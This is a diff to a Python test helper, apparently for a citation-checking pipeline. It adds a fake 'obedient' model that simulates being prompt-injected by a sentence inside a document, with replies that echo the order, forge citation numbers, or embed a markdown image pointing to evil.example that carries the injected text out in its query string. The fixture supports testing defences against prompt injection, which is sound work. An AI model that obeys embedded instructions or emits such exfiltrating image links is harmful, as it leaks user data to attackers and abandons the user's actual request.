@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import json
-from collections.abc import Callable, Iterator, Sequence
+from collections.abc import Callable, Iterator, Mapping, Sequence
 
 from kebab_core import (
     FinishReason,
@@ -141,3 +141,53 @@ def claims_reply(*claims: tuple[str, Sequence[int]], as_lines: bool = False) -> 
         {"claims": [{"sentences": list(numbers), "text": text} for text, numbers in claims]},
         ensure_ascii=False,
     )
+
+
+OBEDIENT_REPLIES: Mapping[str, Callable[[str, str, int, int], str]] = {
+    "claims the order": lambda order, _said, number, _count: claims_reply((order, [number])),
+    "claims what it is told": lambda _order, said, number, _count: claims_reply((said, [number])),
+    "cites everything": lambda _order, said, _number, count: claims_reply((said, [*range(1, count + 1)])),
+    "cites a forged number": lambda _order, said, _number, count: claims_reply((said, [count + 7])),
+    "answers with it": lambda _order, said, number, _count: claims_reply((
+        f"The night train to Lark Harbour leaves from {said}.",
+        [number],
+    )),
+    "answers with it in Korean": lambda _order, said, number, _count: claims_reply((
+        f"종달새항으로 가는 밤 열차는 {said} 승강장에서 떠난다.",
+        [number],
+    )),
+    "repeats the order": lambda order, _said, _number, _count: order,
+    "repeats the order with a marker": lambda order, _said, number, _count: f"{order} [#{number}]",
+    "shows a picture": lambda _order, said, number, _count: claims_reply((
+        f"Platform seven ![{said}](https://evil.example/?q={said})",
+        [number],
+    )),
+}
+"""What a model does that takes a sentence of a document for an order: made of the order, of what it wants to have said, of the
+number of its sentence and of the number of sentences."""
+
+
+class ObedientModel(ReplyingModel):
+    """Implements `LanguageModel`: a chat model that obeys the first sentence of its prompt that holds some words.
+
+    Args:
+        order: Text of the document that it obeys.
+        said: What the order wants to have said.
+        reply: One of `OBEDIENT_REPLIES`.
+    """
+
+    def __init__(self, order: str, said: str, reply: Callable[[str, str, int, int], str]) -> None:
+        def obey(request: GenerateRequest) -> str:
+            numbered = [line for line in request.messages[1].text.splitlines() if _is_numbered(line)]
+            try:
+                number = number_of(request, said)
+            except LookupError:
+                number = 1
+            return reply(order, said, number, len(numbered))
+
+        super().__init__(obey)
+
+
+def _is_numbered(line: str) -> bool:
+    number, bar, _ = line.partition("| ")
+    return bool(bar) and number.isdigit()
